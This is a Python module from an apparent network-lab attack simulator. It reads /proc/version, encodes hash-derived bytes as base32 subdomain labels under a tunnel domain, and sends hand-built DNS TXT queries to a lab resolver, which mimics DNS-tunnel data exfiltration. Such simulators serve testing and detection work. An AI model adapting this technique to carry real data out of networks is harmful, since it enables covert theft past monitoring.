"""Carries data out through the resolver: each name below a domain of the attacker holds 75 bytes of it."""

from __future__ import annotations

import base64
import hashlib
import socket
import struct
from pathlib import Path

from netpersona.app.lab.attacks.order import PATIENCE, Order, Tally
from netpersona.app.lab.layout import RESOLVER, TUNNEL

_BYTES = 75  # a name: 120 letters of base32 in two labels
_TXT = 16


def run(order: Order, tally: Tally) -> str:
    """Ask; what was done, in words."""
    data = Path("/proc/version").read_bytes()
    for number, family in order.turns():
        name = _name(data, number)
        kind = socket.AF_INET if family == 4 else socket.AF_INET6
        with socket.socket(kind, socket.SOCK_DGRAM) as asking:
            asking.settimeout(PATIENCE)
            try:
                asking.connect((RESOLVER.address(family), 53))
                asking.send(_question(name, number))
                reply = asking.recv(4_096)
                tally.answer() if reply[3] & 15 == 0 else tally.failure("the name was refused")
            except OSError as error:
                tally.failure(error)
    return f"questions for names below {TUNNEL}, {_BYTES} bytes in each"


def _name(data: bytes, number: int) -> str:
    """The data's next part, never the same twice, as one would encrypt it."""
    stream = b"".join(hashlib.sha256(data + struct.pack("!II", number, part)).digest() for part in range(3))
    text = base64.b32encode(stream[:_BYTES]).decode().rstrip("=").lower()
    return f"{text[:60]}.{text[60:]}.{TUNNEL}"


def _question(name: str, number: int) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", _TXT, 1)
